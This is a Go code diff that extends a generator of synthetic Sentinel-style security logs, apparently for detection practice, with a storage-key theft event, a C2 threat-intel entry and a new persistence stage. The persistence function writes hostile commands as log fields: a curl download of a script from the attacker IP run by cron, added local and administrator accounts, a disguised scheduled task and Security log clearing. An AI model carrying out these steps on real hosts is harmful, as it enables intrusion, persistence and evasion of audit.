@@ -256,6 +256,14 @@ func (g *gen) spray() {
 			"OrganizationId": TenantID, "OfficeObjectId": g.id(),
 		})
 	}
+	// With the mailbox comes the Azure subscription: the storage keys are read from the same address.
+	g.add("AzureActivity", map[string]any{
+		"TimeGenerated": g.ago(success - 30*time.Minute), "Caller": SprayVictim, "CallerIpAddress": SprayIP,
+		"OperationNameValue": "Microsoft.Storage/storageAccounts/listKeys/action", "OperationName": "List Storage Account Keys",
+		"ResourceProviderValue": "Microsoft.Storage", "ResourceGroup": ResourceGroup, "CategoryValue": "Administrative",
+		"ActivityStatusValue": "Success", "Level": "Informational", "SubscriptionId": Subscription, "CorrelationId": g.id(),
+		"_ResourceId": fmt.Sprintf("/subscriptions/%s/resourceGroups/%s/providers/Microsoft.Storage/storageAccounts/prodbackups01", Subscription, ResourceGroup),
+	})
 	g.alert(success-15*time.Minute, "Password spray attack followed by successful sign-in", "High",
 		"A password spray from one IP address targeted 20 accounts and then signed in successfully as one of them.",
 		"CredentialAccess,InitialAccess", "T1110,T1078", SprayVictim,
@@ -283,6 +291,13 @@ func (g *gen) beacon() {
 		"TimeGenerated": g.ago(40 * time.Hour), "Id": "indicator--c2-" + C2IP, "ObservableKey": "ipv4-addr:value", "ObservableValue": C2IP,
 		"Confidence": 90, "IsActive": true, "SourceSystem": "Microsoft Defender Threat Intelligence", "Pattern": "[ipv4-addr:value = '" + C2IP + "']",
 		"Tags": "c2,cobaltstrike", "Data": map[string]any{"labels": []string{"malicious-activity", "c2"}, "description": "Cobalt Strike team server"},
+	})
+	// Workspaces migrating to the new TI schema still hold the legacy table.
+	g.add("ThreatIntelligenceIndicator", map[string]any{
+		"TimeGenerated": g.ago(40 * time.Hour), "IndicatorId": "c2-" + C2IP, "NetworkIP": C2IP, "ConfidenceScore": 85, "Active": true,
+		"Action": "alert", "ThreatType": "C2", "ThreatSeverity": 4, "Description": "Cobalt Strike team server", "Tags": `["c2","cobaltstrike"]`,
+		"SourceSystem": "Microsoft Defender Threat Intelligence", "ExpirationDateTime": g.ago(-60 * 24 * time.Hour),
+		"ExternalIndicatorId": "indicator--c2-" + C2IP,
 	})
 	g.alert(19*time.Hour, "Communication with a known command-and-control address", "High",
 		"A host communicated repeatedly with an IP address listed in threat intelligence as a C2 server.",
@@ -333,4 +348,52 @@ func (g *gen) bruteForce() {
 		"CreatedBy": "adele.vance@contoso.com", "UpdatedBy": "adele.vance@contoso.com", "Notes": "Successful logon right after the spray of failures.",
 		"Tags": "ssh,bruteforce", "QueryText": "Syslog | where SyslogMessage has '" + BruteIP + "'", "QueryResultRow": row, "SoftDeleted": false,
 	})
+}
+
+// persistence: what the intruders did once in. On linux-db-02, dbadmin
+// downloads a script (Sysmon for Linux process creation), schedules it
+// with cron and adds a local user; the kernel logs a critical audit
+// message. On win-fs01, megan.bowen's session creates a scheduled task
+// with schtasks, adds a local account to Administrators and clears the
+// Security log.
+func (g *gen) persistence() {
+	linux := 12*time.Hour - 50*time.Minute
+	syslog := func(at time.Duration, process, facility, severity, msg string) {
+		g.add("Syslog", map[string]any{"TimeGenerated": g.ago(at), "Computer": BruteHost, "HostIP": BruteHostIP, "Facility": facility,
+			"SeverityLevel": severity, "ProcessName": process, "ProcessID": 4000 + g.rnd.IntN(4000), "SyslogMessage": msg})
+	}
+	sysmon := `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>` +
+		`<Computer>` + BruteHost + `</Computer></System><EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">%d</Data>` +
+		`<Data Name="Image">%s</Data><Data Name="CommandLine">%s</Data><Data Name="CurrentDirectory">/home/dbadmin</Data>` +
+		`<Data Name="User">dbadmin</Data><Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>`
+	syslog(linux, "sysmon", "user", "info", fmt.Sprintf(sysmon, 7311, "/usr/bin/curl", "curl -s -o /tmp/.x/update.sh http://"+BruteIP+"/update.sh"))
+	syslog(linux-time.Minute, "sysmon", "user", "info", fmt.Sprintf(sysmon, 7320, "/usr/bin/chmod", "chmod +x /tmp/.x/update.sh"))
+	syslog(linux-2*time.Minute, "crontab", "cron", "info", "(dbadmin) REPLACE (dbadmin)")
+	for i := 0; i < 3; i++ {
+		syslog(linux-time.Duration(10+i*15)*time.Minute, "CRON", "cron", "info", "(dbadmin) CMD (/tmp/.x/update.sh >/dev/null 2>&1)")
+	}
+	syslog(linux-3*time.Minute, "useradd", "authpriv", "info", "new user: name=svc-backup, UID=1001, GID=1001, home=/home/svc-backup, shell=/bin/bash, from=/dev/pts/0")
+	syslog(linux-4*time.Minute, "passwd", "authpriv", "notice", "pam_unix(passwd:chauthtok): password changed for svc-backup")
+	syslog(linux-5*time.Minute, "kernel", "kern", "crit", "audit: audit_backlog=8193 > audit_backlog_limit=8192")
+
+	win := 30*time.Hour - 61*time.Minute - 40*time.Minute
+	event := func(at time.Duration, id int, activity string, extra map[string]any) {
+		row := map[string]any{"TimeGenerated": g.ago(at), "Computer": "win-fs01.contoso.local", "EventID": id, "Activity": activity,
+			"Channel": "Security", "SubjectUserName": "megan.bowen", "SubjectDomainName": "CONTOSO", "Account": `CONTOSO\megan.bowen`}
+		for k, v := range extra {
+			row[k] = v
+		}
+		g.add("SecurityEvent", row)
+	}
+	event(win, 4688, "4688 - A new process has been created.", map[string]any{"NewProcessName": `C:\Windows\System32\schtasks.exe`,
+		"CommandLine": `schtasks /create /tn "OneDrive Updater" /tr C:\Users\megan.bowen\AppData\Local\Temp\odupd.exe /sc minute /mo 30`,
+		"ParentProcessName": `C:\Windows\System32\cmd.exe`, "NewProcessId": "0x1a2c", "ProcessId": "0x17f0", "TokenElevationType": "%%1937"})
+	event(win-time.Minute, 4698, "4698 - A scheduled task was created.", map[string]any{
+		"EventData": `<EventData><Data Name="TaskName">\OneDrive Updater</Data><Data Name="TaskContent">C:\Users\megan.bowen\AppData\Local\Temp\odupd.exe</Data></EventData>`})
+	event(win-2*time.Minute, 4688, "4688 - A new process has been created.", map[string]any{"NewProcessName": `C:\Windows\System32\net.exe`,
+		"CommandLine": `net user helpdesk2 /add`, "ParentProcessName": `C:\Windows\System32\cmd.exe`, "NewProcessId": "0x1b04", "ProcessId": "0x17f0"})
+	event(win-3*time.Minute, 4720, "4720 - A user account was created.", map[string]any{"TargetUserName": "helpdesk2", "TargetDomainName": "WIN-FS01"})
+	event(win-4*time.Minute, 4732, "4732 - A member was added to a security-enabled local group.", map[string]any{"TargetUserName": "Administrators",
+		"TargetDomainName": "Builtin", "MemberName": "-", "TargetAccount": `Builtin\Administrators`})
+	event(win-6*time.Minute, 1102, "1102 - The audit log was cleared.", nil)
 }
